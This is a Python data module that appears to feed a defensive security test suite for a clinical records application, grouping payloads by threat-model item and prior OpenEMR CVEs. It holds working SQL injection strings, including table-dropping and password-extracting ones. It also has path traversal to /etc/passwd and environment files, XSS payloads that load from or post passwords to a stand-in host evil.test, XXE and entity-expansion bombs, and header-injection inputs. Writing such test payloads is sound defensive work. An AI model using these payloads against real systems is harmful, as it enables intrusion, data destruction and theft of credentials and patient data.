"""What is tried: each payload once, by the group of trust.md §3 that it belongs to."""

# ruff: noqa: S608 - these are payloads: none of them is ever a query of ours

from __future__ import annotations

from itertools import product

CANARY = "c4n4ry"

# ATK-01: after OpenEMR CVE-2026-24908 (`_sort`), for both databases.
SQL = (
    f"{CANARY}'",
    f'{CANARY}"',
    f"{CANARY}`",
    f"{CANARY}' OR '1'='1",
    f"{CANARY}' OR 1=1 --",
    f"{CANARY}') OR ('1'='1",
    f'{CANARY}" OR ""="',
    f"{CANARY}'; DROP TABLE chart_line; --",
    f"{CANARY}'; SELECT pg_sleep(10); --",
    f"{CANARY}' || pg_sleep(10) || '",
    f"{CANARY}' UNION SELECT content FROM chart_line --",
    f"{CANARY}' UNION ALL SELECT NULL, NULL, NULL --",
    f"-{CANARY},(SELECT CASE WHEN 1=1 THEN 1 ELSE 1/0 END)",
    f"-date,(SELECT password FROM accounts_user LIMIT 1),{CANARY}",
    f"{CANARY}' AND randomblob(1000000000) AND '",
    f"{CANARY}' AND load_extension('/tmp/x') --",
    f"{CANARY}'; ATTACH DATABASE '/tmp/x' AS x; --",
    f"{CANARY}'; COPY chart_line TO '/tmp/x'; --",
    f"{CANARY}/**/OR/**/1=1",
    f"{CANARY}%' OR '%'='",
    f"{CANARY}\\' OR 1=1 #",
    f"{CANARY}' COLLATE NOCASE --",
    f"{CANARY}::int",
    f"$${CANARY}$$ OR $$x$$=$$x$$",
    f"E'{CANARY}\\047'",
    f"{CANARY}%00' OR 1=1",
    f"{CANARY}\x00' OR 1=1",
    f"%s %(x)s {{0}} {CANARY}",
    f"__class__.{CANARY}",
    f"person__name__contains={CANARY}",
)

# The names under which views read something, and those of others' search parameters.
PARAMETERS = (
    "q", "severity", "owner", "before", "page", "show", "kind", "condition",
    "observation", "change", "seen", "done", "next", "person", "patient", "id", "pid",
    "recid", "line", "sort", "_sort", "order_by", "filter", "search", "_elements",
    "_has:Observation:patient:code", "_include", "_count", "limit", "offset", "fields",
    "format", "key", "membership", "organisation", "programme",
)  # fmt: skip

# ATK-02, -03, -04: what a body may claim about who and what (CVE-2026-25744, -33931).
CLAIMS = (
    "id", "pk", "pid", "recid", "form_id", "person", "person_id", "patient", "subject",
    "line_id", "author", "actor", "actor_kind", "user", "role", "is_superuser",
    "organisation", "organization", "tenant", "programme_id", "signed_by",
    "prescribed_by", "recorded_at", "created_at", "version", "place", "withdrawn",
    "outcome", "purpose",
)  # fmt: skip

# ATK-08: after OpenEMR CVE-2026-25476.
JUNK = (
    "skip_timeout_reset", "skipTimeoutReset", "skip", "keepalive", "keep_alive",
    "extend",
    "refresh", "poll", "stay", "touch", "session", "sessionid", "timeout", "no_timeout",
    "idle", "reset", "ping", "ajax", "auto", "background", "silent", "remember",
    "token",
    "debug", "test", "user", "account", "acted", "began", "expiry",
)  # fmt: skip

# ATK-09, -11: every way of climbing, to four places that exist on such machines.
_CLIMBS = (
    "../", "..\\", "..%2f", "..%5c", "%2e%2e/", "%2e%2e%2f", "%252e%252e%252f",
    "..%252f", "....//", "..;/", "%c0%ae%c0%ae/", "..%c0%af", "%uff0e%uff0e/", "./../",
    "..%00/",
)  # fmt: skip
_TARGETS = ("etc/passwd", "proc/self/environ", "pyproject.toml", "settings.py")
PATHS = tuple(climb * 8 + target for climb, target in product(_CLIMBS, _TARGETS))
ABSOLUTE = (
    "/etc/passwd",
    "//etc/passwd",
    "%2fetc%2fpasswd",
    "file:///etc/passwd",
    "\\\\evil.test\\share\\x",
    "C:\\windows\\win.ini",
    "pages/../../../settings.py",
    "pages/%2e%2e/%2e%2e/%2e%2e/settings.py",
)

# ATK-10: after OpenEMR CVE-2026-32121 and -21443; `x55` names what would be data's.
SCRIPTS = (
    "<script>x55()</script>",
    "<ScRiPt>x55()</sCrIpT>",
    "<script src=//evil.test/x55.js></script>",
    "</script><script>x55()</script>",
    "</title><script>x55()</script>",
    "</textarea><script>x55()</script>",
    "--><script>x55()</script>",
    "]]><script>x55()</script>",
    "<scr<script>ipt>x55()</scr</script>ipt>",
    '"><img src=x onerror=x55()>',
    "'><img src=x onerror=x55()>",
    "<img/src=x/onerror=x55()>",
    "<img src=x onerror=&#x78;55()>",
    '" onmouseover="x55()',
    "' onfocus='x55()' autofocus='",
    " onfocus=x55() autofocus ",
    "<svg onload=x55()>",
    "<svg><script>x55()</script></svg>",
    "<svg><animate onbegin=x55() attributeName=x>",
    "<math><mtext><script>x55()</script></mtext></math>",
    "<body onload=x55()>",
    "<iframe src=javascript:x55()>",
    "<iframe srcdoc='<script>x55()</script>'>",
    "<object data=javascript:x55()>",
    "<embed src=javascript:x55()>",
    "<a href=javascript:x55()>x55</a>",
    "javascript:x55()",
    "data:text/html,<script>x55()</script>",
    "<form action=//evil.test/x55><input name=password>",
    "<base href=//evil.test/x55/>",
    "<meta http-equiv=refresh content=0;url=//evil.test/x55>",
    "<link rel=stylesheet href=//evil.test/x55.css>",
    "<style>@import '//evil.test/x55.css'</style>",
    "<details open ontoggle=x55()>",
    "<video><source onerror=x55()></video>",
    "<b hx-get=/x55 hx-trigger=load>",
    "<b hx-on:load=x55()>",
    "<b data-hx-post=/x55 data-hx-trigger=load>",
    "{{ x55 }}{% csrf_token %}{% include 'x55' %}",
    "＜script＞x55()＜/script＞",
    "\u202e<script>x55()</script>",
    "<b style=background:url(//evil.test/x55)>",
)

# ATK-12: XML where something else was asked for.
XML = (
    (
        '<?xml version="1.0"?>'
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    ),
    '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd"><x/>',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x">%p;]><x/>',
    "<!DOCTYPE l [<!ENTITY a 'ha'>"
    + "".join(
        f"<!ENTITY {chr(98 + n)} '" + f"&{chr(97 + n)};" * 10 + "'>" for n in range(9)
    )
    + "]><l>&j;</l>",
    (
        '<x xmlns:xi="http://www.w3.org/2001/XInclude">'
        '<xi:include href="/etc/passwd"/></x>'
    ),
    '<?xml-stylesheet href="http://127.0.0.1:9/x.xsl"?><ClinicalDocument/>',
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
)

# Text that no database or log should choke on, and numbers beyond every calendar.
ODD = (
    "\x00",
    "a\x00b",
    "\ud800",
    "a\udfffb",
    "\ufeff",
    "\u202e",
    "\x1b[31m",
    "\r\nX-Evil: 1",
    "a" * 100_000,
    "9" * 5_000,
    "-1",
    "0",
    "1e400",
    "NaN",
    "Infinity",
    "٣",
    "²",
    "0001-01-01",
    "9999-12-31",
    "0001",
    "9999",
    "0000",
    "[]",
    "{}",
    "null",
)

GROUPS = {
    "ATK-01": SQL,
    "ATK-02": CLAIMS,
    "ATK-08": JUNK,
    "ATK-09": (*PATHS, *ABSOLUTE),
    "ATK-10": SCRIPTS,
    "ATK-12": XML,
    "odd": ODD,
}
